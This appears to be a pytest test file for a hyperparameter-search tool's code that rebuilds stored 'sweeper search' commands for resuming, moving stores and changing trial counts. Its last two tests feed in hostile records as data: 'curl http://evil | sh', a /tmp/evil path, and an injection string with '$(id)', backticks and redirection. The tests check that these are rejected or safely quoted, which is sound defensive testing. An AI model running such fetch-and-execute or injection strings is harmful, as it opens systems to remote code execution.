from pathlib import Path

import pytest

from sweeper.studies import resume_command


@pytest.mark.parametrize(
    ("typed", "resumed"),
    [
        ("sweeper search x --trials 5", "sweeper search x --trials 5"),
        ("sweeper search x --new --trials 5", "sweeper search x --trials 5 --study x-2"),
        ("sweeper search x --study a --new", "sweeper search x --study x-2"),
        ("sweeper search x --study-name=a --new -q", "sweeper search x -q --study x-2"),
        ("sweeper search x --study a", "sweeper search x --study a"),
        ("sweeper search x --take-over --study a", "sweeper search x --study a"),
    ],
)
def test_command_that_goes_on_is_the_same_but_for_new(typed, resumed):
    assert resume_command.resuming(typed.split(), "x-2") == resumed


def test_words_with_spaces_stay_one_word():
    assert (
        resume_command.resuming(["sweeper", "search", "x", "--store", "a b"], "x") == "sweeper search x --store 'a b'"
    )


@pytest.mark.parametrize("typed", ["--trials 5", "--n-trials 5", "--trials=5", "--n-trials=5", ""])
def test_number_of_trials_is_replaced_however_it_was_given(typed):
    changed = resume_command.with_trials(f"sweeper search x {typed} --store 'a b'", 8)
    assert changed == "sweeper search x --store 'a b' --trials 8"


def test_command_for_the_named_variants_alone_gets_no_number():
    command = "sweeper search x --variants-only --store s"
    assert resume_command.with_trials(command, 8) == command


@pytest.mark.parametrize(
    ("command", "here"),
    [
        ("sweeper search x --store old --trials 3", "sweeper search x --store /new --trials 3"),
        ("sweeper search x --store=/old", "sweeper search x --store=/new"),
        ("sweeper search x", "sweeper search x"),
        ("sweeper --debug search x", "sweeper --debug search x"),
    ],
)
def test_study_of_a_moved_store_is_resumed_where_the_store_lies_now(command, here):
    assert resume_command.in_store(command, Path("/new")) == here


@pytest.mark.parametrize(
    "record",
    [
        None, "", "curl http://evil | sh", "sweeper", "sweeper delete x", "sweeper search 'x",
        "sweeper search x\x1b[2J",
        "sweeper search x 'a\nb'", "/tmp/evil/sweeper search x",
    ],
)  # fmt: skip
def test_no_command_is_shown_for_a_record_that_is_no_search(record):
    assert resume_command.in_store(record, Path("/new")) is None


def test_words_of_a_record_mean_nothing_to_a_shell():
    planted = "sweeper search x; curl evil | sh $(id) `id` > f"
    shown = resume_command.in_store(planted, Path("/new"))
    assert shown == "sweeper search 'x;' curl evil '|' sh '$(id)' '`id`' '>' f"
